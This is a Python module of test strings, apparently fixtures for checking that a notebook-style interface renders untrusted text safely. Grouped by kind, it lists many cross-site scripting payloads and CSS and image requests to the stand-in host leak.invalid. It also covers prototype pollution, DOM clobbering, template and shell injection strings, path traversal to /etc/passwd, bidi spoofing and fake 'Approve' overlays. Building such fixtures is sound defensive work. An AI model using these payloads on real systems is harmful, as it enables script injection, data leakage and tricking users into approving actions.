r"""Texts that try what a text can do to a page, by kind of attack.

Each script would set `window.hacked`; each request would go to `leak.invalid`.
"""

from __future__ import annotations

LEAK = "http://leak.invalid"
HACK = "window.hacked=1"
COVER = "position:fixed;inset:0;z-index:2147483647;background:red"

_HANDLERS = (
    "img src=x onerror",
    "body onload",
    "svg onload",
    "video src=x onerror",
    "audio src=x onerror",
    "details open ontoggle",
    "input autofocus onfocus",
    "select autofocus onfocus",
    "marquee onstart",
    "div onpointerover",
    "button popovertarget=a onclick",
    "iframe onload",
    "object data=x onerror",
    "style onload",
    "link rel=stylesheet href=x onerror",
    "textarea autofocus onfocus",
    "div style='animation-name:x' onanimationstart",
    "p oncontentvisibilityautostatechange",
    "a href=# onclick",
    "form onsubmit",
    "dialog open onclose",
    "math onclick",
    "track onerror",
)
_SOURCES = (
    "img src",
    "image src",
    "input type=image src",
    "video poster",
    "video src",
    "audio src",
    "source src",
    "track src",
    "embed src",
    "object data",
    "iframe src",
    "frame src",
    "body background",
    "table background",
    "link rel=stylesheet href",
    "link rel=prefetch href",
    "link rel=preconnect href",
    "link rel=icon href",
    "script src",
    "base href",
    "meta http-equiv=refresh content='0;url='",
    "applet code",
    "img srcset",
    "picture><source srcset",
    "portal src",
    "bgsound src",
    "link rel=dns-prefetch href",
)

HTML = [
    *(f'<{handler}="{HACK}">' for handler in _HANDLERS),
    *(f'<{source}="{LEAK}/{number}">' for number, source in enumerate(_SOURCES)),
    f"<script>{HACK}</script>",
    f"<SCRIPT/x>{HACK}</SCRIPT>",
    f"<scr<script>ipt>{HACK}</scr</script>ipt>",
    f"<script\n>{HACK}</script\n>",
    f"<script type=module>import '{LEAK}/m.js'</script>",
    '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
    f"<noscript><p title=\"</noscript><img src=x onerror={HACK}>\">",
    f"<template><script>{HACK}</script></template>",
    f"<!--><img src=x onerror={HACK}>-->",
    f"<![CDATA[><img src=x onerror={HACK}>]]>",
    f"<title><img src=x onerror={HACK}></title>",
    f"</textarea></pre></script></style></title><img src=x onerror={HACK}>",
    f"<xmp><img src=x onerror={HACK}></xmp>",
    f"\"><img src=x onerror={HACK}>",
    f"' autofocus onfocus='{HACK}' x='",
    f"<img src=`x` onerror=`{HACK}`>",
    f"<img/src='x'/onerror={HACK}>",
    f"<img src=x onerror\x0c=\x0b{HACK}>",
    f"&lt;img src=x onerror={HACK}&gt;",
    f"&#60;script&#62;{HACK}&#60;/script&#62;",
    "<div data-commandlinker-command='msgbook:run-stale'>run</div>",
    "<a data-commandlinker-command='filebrowser:delete' data-commandlinker-args='{}'>x</a>",
    f"<form action='{LEAK}/form'><button>Approve</button><input name=key></form>",
    f"<button formaction='{LEAK}/f' form=x>Approve</button>",
    f"<a href='{LEAK}/ping' ping='{LEAK}/pinged'>link</a>",
    f"<jp-button onclick={HACK}>Approve</jp-button>",
    f"<x-y is=script>{HACK}</x-y>",
    f"<div contenteditable onblur={HACK} autofocus tabindex=0>x</div>",
]  # fmt: skip

SVG = [
    f"<svg><script>{HACK}</script></svg>",
    f"<svg><image href='{LEAK}/s1'/></svg>",
    f"<svg><use href='{LEAK}/s2#a'/></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=a onload={HACK}></svg>#a'/></svg>",
    f"<svg><a xlink:href='javascript:{HACK}'><text>x</text></a></svg>",
    f"<svg><animate attributeName=href values='javascript:{HACK}'/></svg>",
    f"<svg><set attributeName=onload to={HACK}></svg>",
    f"<svg><foreignObject><img src=x onerror={HACK}></foreignObject></svg>",
    f"<svg><style>@import '{LEAK}/s3';</style></svg>",
    f"<svg><feImage href='{LEAK}/s4'/></svg>",
    f"<svg><desc><template><img src=x onerror={HACK}></template></desc></svg>",
    f"<svg><filter><feImage xlink:href='{LEAK}/s5'/></filter></svg>",
    f'<svg></p><style><a id="</style><img src=x onerror={HACK}>">',
    f"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM '{LEAK}/s6'>]><svg>&x;</svg>",
    f"<svg xmlns='http://www.w3.org/2000/svg' style='{COVER}'></svg>",
]

MATHML = [
    f"<math href='javascript:{HACK}'>x</math>",
    f"<math><mi xlink:href='javascript:{HACK}'>x</mi></math>",
    f"<math><maction actiontype='statusline#{LEAK}' xlink:href='javascript:{HACK}'>x</maction></math>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={HACK}></annotation-xml></math>",
    f"<math><mtext></form><form><mglyph><style></math><img src=x onerror={HACK}>",
    f"<math><mglyph src='{LEAK}/m1'/></math>",
    f"<math><ms style='background:url({LEAK}/m2)'>x</ms></math>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={HACK} src>'>",
]

CSS = [
    f"<div style='{COVER}'>covered</div>",
    f"<style>*{{{COVER}}}</style>",
    f"<style>body{{background:url({LEAK}/c1)}}</style>",
    f"<style>@import url({LEAK}/c2);</style>",
    f"<style>@font-face{{font-family:x;src:url({LEAK}/c3)}}*{{font-family:x}}</style>",
    f"<p style='background-image:image-set(\"{LEAK}/c4\" 1x)'>x</p>",
    f"<p style='list-style:url({LEAK}/c5);display:list-item'>x</p>",
    f"<p style='cursor:url({LEAK}/c6),auto'>x</p>",
    f"<p style='content:url({LEAK}/c7)'>x</p>",
    f"<p style='width:expression({HACK})'>x</p>",
    f"<p style='-moz-binding:url({LEAK}/c8)'>x</p>",
    "<style>.msgbook-Approval button{display:none}.msgbook-Approval::after{content:'Approve'}</style>",
    f"<style>input[value^=s]{{background:url({LEAK}/c9)}}</style>",
    "<style>.jp-Toolbar,.lm-MenuBar{display:none!important}</style>",
    "<div class='jp-Dialog'><div class='jp-Dialog-content'>Session expired</div></div>",
    "<div class='lm-Menu lm-mod-hidden msgbook-Approval-button' popover=manual id=p>x</div>",
    "<p style='position:absolute;top:-10000px;margin:-9999px;transform:scale(1000)'>x</p>",
    "<b style='font-size:99999px;line-height:0'>x</b>",
    f"</style><style>html{{background:url('{LEAK}/c10')}}",
    "<style>@keyframes x{}:root{--jp-layout-color1:red;--jp-ui-font-size1:90px}</style>",
]

URLS = [
    f"javascript:{HACK}",
    f"[a](javascript:{HACK})",
    f"[b](JaVaScRiPt:{HACK})",
    f"[c](java\tscript:{HACK})",
    f"[d](java&#10;script:{HACK})",
    f"[e](\x01javascript:{HACK})",
    f"[f](javascript&colon;{HACK})",
    f"[g](vbscript:{HACK})",
    "[h](data:text/html,<script>opener.hacked=1</script>)",
    "[i](data:text/html;base64,PHNjcmlwdD5vcGVuZXIuaGFja2VkPTE8L3NjcmlwdD4=)",
    f"[j](blob:{LEAK}/x)",
    "[k](//leak.invalid/k)",
    "[l](\\\\leak.invalid\\l)",
    "[m](file:///etc/passwd)",
    "[n](/api/shutdown)",
    "[o](/lab?reset)",
    "[p](../api/contents/x)",
    "[q](attachment:x.png)",
    "[r](jupyter:x)",
    "[s](https://user:pass@leak.invalid)",
    f"<javascript:{HACK}>",
    f"<{LEAK}/auto>",
    "www.leak.invalid/x",
    f"{LEAK}/bare?q=1&<img src=x onerror={HACK}>",
    f"view-source:{LEAK}",
    "intent://leak.invalid#Intent;end",
    f"![a]({LEAK}/u1.png)",
    "![a](//leak.invalid/u2.png)",
    "![a](http:leak.invalid/u3.png)",
    "![a](\\\\leak.invalid/u4.png)",
    f"![a](data:image/svg+xml,<svg onload={HACK}>)",
    "![a](/api/kernels)",
    "![a](/logout)",
    f"![a](<{LEAK}/u5.png>)",
    f'![a]({LEAK}/u6.png "t" onerror={HACK})',
    "![a](ftp://leak.invalid/u7.png)",
]  # fmt: skip

MARKDOWN = [
    f"![a][r1]\n\n[r1]: {LEAK}/d1.png",
    f"[a][r2]\n\n[r2]: javascript:{HACK}",
    f"[^1]\n\n[^1]: <img src=x onerror={HACK}>",
    f"| a |\n|---|\n| <img src=x onerror={HACK}> |",
    f"```html\n<script>{HACK}</script>\n```",
    f"``` <img src=x onerror={HACK}>\nx\n```",
    f"```\"onmouseover={HACK} x=\"\nx\n```",
    f"~~~js onload={HACK}\nx\n~~~",
    f"`<img src=x onerror={HACK}>`",
    f"# <a name=x onclick={HACK}>head</a>",
    f"# [head](javascript:{HACK})",
    f"- [ ] <input type=image src={LEAK}/d2>",
    f"> <img src=x onerror={HACK}>",
    f"**<svg onload={HACK}>**",
    f"[![a]({LEAK}/d3)](javascript:{HACK})",
    f"\\<img src=x onerror={HACK}>",
    f"[x]: <javascript:{HACK}> '\"><img src=x onerror={HACK}>'\n\n[x]",
    f"<details><summary>x</summary>\n\n<img src=x onerror={HACK}>\n\n</details>",
    f"<div markdown=1>\n\n![a]({LEAK}/d4)\n\n</div>",
    f"---\n<img src=x onerror={HACK}>\n---",
    f"    <img src=x onerror={HACK}>",
    "[a](" * 200,
    "*" * 3000,
    "> " * 500 + "x",
    "- " * 500 + "x",
    "|" * 2000 + "\n" + "|-" * 1000,
    "@[/etc/passwd]",
    "@[shell{\"command\": \"touch hacked\"}]",
    "{{constructor}} {{__proto__}} @{define constructor, x}",
    "%%python\nimport os; os.mkdir('hacked')",
    "# %% [^x]\n\n[^x]: [code]\n\n```python\nimport os\n```",
]  # fmt: skip

TEX = [
    f"$\\href{{javascript:{HACK}}}{{x}}$",
    f"$\\style{{{COVER}}}{{x}}$",
    f"$\\style{{background:url({LEAK}/t1)}}{{x}}$",
    "$\\class{jp-Dialog}{x}$",
    "$\\cssId{jp-main-dock-panel}{x}$",
    f"$\\includegraphics{{{LEAK}/t2}}$",
    "$\\require{html}\\data{commandlinker-command=msgbook:run-stale}{x}$",
    f"$$\\unicode{{x202e}} \\text{{<img src=x onerror={HACK}>}}$$",
    f"\\(\\url{{javascript:{HACK}}}\\)",
    f"\\begin{{equation}}\\href{{{LEAK}/t3}}{{x}}\\end{{equation}}",
    "$\\rule{9999em}{9999em}$",
    "$\\raise{-999em}{\\Huge x}$",
    "$\\hspace{-99em}\\llap{x}$",
    "$\\def\\x{\\x\\x}\\x$",
    "$" + "{" * 500 + "x" + "}" * 500 + "$",
    "$\\newcommand{\\frac}{\\text{broken}}\\frac$",
    f"$\\mathchoice{{\\texttip{{x}}{{<img src=x onerror={HACK}>}}}}{{}}{{}}{{}}$",
    f"$a<img src=x onerror={HACK}>b$",
]


def _fenced(language: str, code: str) -> str:
    return f"```{language}\n{code}\n```"


MERMAID = [
    _fenced("mermaid", f'graph LR\n A["<img src=x onerror={HACK}>"] --> B'),
    _fenced("mermaid", f'graph LR\n A@{{ img: "{LEAK}/g1.png" }} --> B'),
    _fenced("mermaid", f'graph LR\n A --> B\n click A "javascript:{HACK}"'),
    _fenced("mermaid", f'graph LR\n A --> B\n click A call alert("{LEAK}")'),
    _fenced("mermaid", f"%%{{init: {{'securityLevel': 'loose', 'themeCSS': '@import url({LEAK}/g2)'}}}}%%\ngraph LR\n A-->B"),
    _fenced("mermaid", f"%%{{init: {{'theme': 'base', 'themeVariables': {{'fontFamily': 'x;}} *{{{COVER}'}}}}}}%%\ngraph LR\n A-->B"),
    _fenced("mermaid", f"---\nconfig:\n  securityLevel: loose\n---\ngraph LR\n A-->B\n style A fill:url({LEAK}/g3)"),
    _fenced("mermaid", f"graph LR\n A-->B\n classDef x background:url({LEAK}/g4)\n class A x"),
    _fenced("mermaid", f"sequenceDiagram\n A->>B: <script>{HACK}</script>\n link A: x @ javascript:{HACK}"),
    _fenced("mermaid", f"gantt\n title x\n section a\n b :c, 2020-01-01, 1d\n click c href \"javascript:{HACK}\""),
    _fenced("mermaid", "graph LR\n __proto__ --> constructor\n constructor --> toString"),
    _fenced("mermaid", f"architecture-beta\n service a(<img src=x onerror={HACK}>)[x]"),
    _fenced("mermaid", f"C4Context\n Person(a, \"<img src=x onerror={HACK}>\", \"\", $sprite=\"{LEAK}/g5\")"),
    _fenced("mermaid", "graph LR\n" + "\n".join(f" A{n} --> A{n + 1}" for n in range(600))),
    _fenced("mermaid", "graph LR\n A[" + "x" * 20_000 + "]"),
]  # fmt: skip

SPECS = [
    f'{{"data": {{"url": "{LEAK}/v1.json"}}, "mark": "bar"}}',
    f'{{"mark": {{"type": "image", "url": "{LEAK}/v2.png"}}}}',
    f'{{"usermeta": {{"embedOptions": {{"loader": {{"baseURL": "{LEAK}"}}, "actions": true}}}}, "mark": "bar"}}',
    f'{{"transform": [{{"calculate": "{HACK}", "as": "x"}}]}}',
    f'{{"signals": [{{"name": "x", "update": "constructor.constructor(\'{HACK}\')()"}}]}}',
    f'{{"encoding": {{"href": {{"value": "javascript:{HACK}"}}}}, "mark": "point"}}',
    f'{{"data": [{{"type": "scatter", "text": "<a href=\\"javascript:{HACK}\\">x</a>"}}], "layout": {{}}}}',
    f'{{"layout": {{"images": [{{"source": "{LEAK}/v3.png"}}]}}, "data": []}}',
    f'{{"config": {{"plotlyServerURL": "{LEAK}", "topojsonURL": "{LEAK}/"}}, "data": [{{"type": "scattergeo"}}]}}',
    f'{{"data": [{{"type": "scattermapbox"}}], "layout": {{"mapbox": {{"style": "{LEAK}/v4"}}}}}}',
    f'{{"$schema": "{LEAK}/v5.json", "mark": "bar"}}',
    f'{{"title": {{"text": "<img src=x onerror={HACK}>"}}, "mark": "bar"}}',
]

BIDI = [
    *(f"safe{mark}gpj.exe{HACK}" for mark in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200e\u200f\u061c"),
    "\u202eevorppA\u202c",
    "a\u2069\u2069\u2069b\u202e",
    "מחק את הכל rm -rf /",
    "وافق على هذا <b>Approve</b>",
    "z\u200ba\u200cl\u200dg\u2060o\ufeff",
    "Z" + "\u0301\u0316\u0489" * 300,
    "\u115f\u1160\u3164\uffa0",
    "".join(chr(0xE0000 + ord(letter)) for letter in "Approve all"),
    "\ufff9a\ufffab\ufffb",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 50,
]  # fmt: skip

CONTROL = [
    *(f"a{chr(code)}b" for code in (0, 1, 7, 8, 9, 10, 11, 12, 13, 27, 28, 29, 30, 127, 0x85, 0x9B)),
    "a\u2028b\u2029c",
    "\x1b[2J\x1b[31mred\x1b]8;;http://leak.invalid\x07link\x1b]8;;\x07",
    "a\rb\r\nc\n\rd",
    "\b" * 100 + "Approved",
    "\n" * 2000 + "below",
    "\t" * 2000,
    " " * 5000 + "rm -rf /",
    "\ufffe\uffff\ufdd0",
]  # fmt: skip

SURROGATES = [
    "\ud800", "\udfff", "a\ud83db", "\ude00\ud83d", "\ud800" * 500, f"\ud800<img src=x onerror={HACK}>",
    "\udc80\udcff.csv", f"[\ud800](javascript:{HACK})",
]  # fmt: skip

LONG = [
    "x" * 100_000,
    "x " * 50_000,
    "<" * 50_000,
    "&" * 50_000,
    "<b>" * 20_000,
    "W" * 5_000 + ".ipynb",
    "\u0627" * 20_000,
    "[" * 20_000 + "]" * 20_000,
    '{"a":' * 5_000 + "1" + "}" * 5_000,
    "a\n" * 20_000,
]

NAMES = [
    "__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "__defineGetter__",
    "__lookupSetter__", "isPrototypeOf", "then", "toJSON", "length", "null", "undefined", "NaN", "true",
    '{"__proto__": {"hacked": 1}}',
    '{"constructor": {"prototype": {"hacked": 1}}}',
    '[{"__proto__": {"polluted": "yes"}}]',
    '{"toString": 1, "valueOf": null, "then": 1, "length": -1}',
    "__proto__[hacked]",
    "constructor.prototype.hacked",
    "../../../../etc/passwd",
    "..\\..\\x",
    "CON.ipynb",
    ".",
    "..",
    "/",
    "~",
    "%2e%2e%2f",
]  # fmt: skip

TEMPLATES = [
    "{{constructor.constructor('window.hacked=1')()}}", "{{7*7}}", "${window.hacked=1}", "#{window.hacked=1}",
    "<%= window.hacked=1 %>", "{%raw%}{{x}}{%endraw%}", "{% include '/etc/passwd' %}", "[[${7*7}]]",
    "@{window.hacked=1}", "*{window.hacked=1}", "{{=<% %>=}}<%window.hacked=1%>", "{php}x{/php}",
    "`${window.hacked=1}`", "$(touch hacked)", "`touch hacked`", "; touch hacked #", "| touch hacked",
    "%(window.hacked=1)s", "{0.__class__}", "{self.__init__.__globals__}", "%n%n%n%s%s%s",
    "!!python/object/apply:os.system ['touch hacked']", "&a [*a]", "<<: *x",
]  # fmt: skip

PLACEHOLDERS = [
    "%1", "%2 %1 %3", "%1%1%1", "%%1", "%0", "%99", "%-1", "%1$s", "$1 $2 $& $` $'", "\\1 \\2",
    "{0} {1}", "{name}", "%s %d %x", "\u0004", "context\u0004text", "msgid \"x\"\nmsgstr \"y\"",
]  # fmt: skip

CLOBBER = [
    *(f"<a id={name}></a><a id={name} name=x href={LEAK}>" for name in ("jupyterapp", "main", "hacked")),
    *(f"<form name={name}><input name=x></form>" for name in ("document", "body", "cookie", "location")),
    *(f"<img name={name}>" for name in ("getElementById", "createElement", "querySelector", "forms")),
    "<iframe name=jupyterapp></iframe>",
    "<form><input name=attributes><input name=parentNode><input name=nodeName></form>",
    "<p id=jupyter-config-data>{}</p>",
    '<script id="jupyter-config-data" type="application/json">{"baseUrl": "http://leak.invalid/"}</script>',
    "<div id=jp-main-dock-panel class=jp-NotebookPanel>x</div>",
    "<input name=key type=password value=x autocomplete=on>",
    "<a id=msgbook-approvals href=javascript:window.hacked=1>",
    f"<base href={LEAK}/><a href=x>relative</a>",
    "<object name=performance></object>",
]  # fmt: skip

KINDS = {
    "html": HTML,
    "svg": SVG,
    "mathml": MATHML,
    "css": CSS,
    "urls": URLS,
    "markdown": MARKDOWN,
    "tex": TEX,
    "mermaid": MERMAID,
    "specs": SPECS,
    "bidi": BIDI,
    "control": CONTROL,
    "surrogates": SURROGATES,
    "long": LONG,
    "names": NAMES,
    "templates": TEMPLATES,
    "placeholders": PLACEHOLDERS,
    "clobber": CLOBBER,
}

STRINGS = [text for kind in KINDS.values() for text in kind]
"""All of them."""

SHORT = [text[:2_000] for text in STRINGS]
"""All of them, without the length of the long ones: for places with many."""

SENDABLE = [text.encode("utf-8", "replace").decode() for text in STRINGS]
"""All of them, for files and for what UTF-8 has to carry."""
